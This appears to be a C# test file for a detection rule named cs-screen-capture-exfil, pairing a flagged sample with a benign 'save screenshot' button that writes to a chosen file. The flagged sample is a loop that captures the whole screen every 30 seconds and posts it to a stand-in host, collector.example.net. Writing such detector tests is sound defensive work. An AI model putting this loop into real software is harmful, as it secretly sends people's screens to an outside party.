while (true) {
    using var bmp = new Bitmap(bounds.Width, bounds.Height);
    // ruleid: cs-screen-capture-exfil
    using (var g = Graphics.FromImage(bmp)) g.CopyFromScreen(Point.Empty, Point.Empty, bounds.Size);
    bmp.Save(ms, ImageFormat.Png);
    await http.PostAsync("https://collector.example.net/s", new ByteArrayContent(ms.ToArray()));
    Thread.Sleep(30000);
}
// ===== block =====
// A "save screenshot" button.
using var bmp = new Bitmap(bounds.Width, bounds.Height);
// ok: cs-screen-capture-exfil
using (var g = Graphics.FromImage(bmp)) g.CopyFromScreen(Point.Empty, Point.Empty, bounds.Size);
bmp.Save(dialog.FileName, ImageFormat.Png);
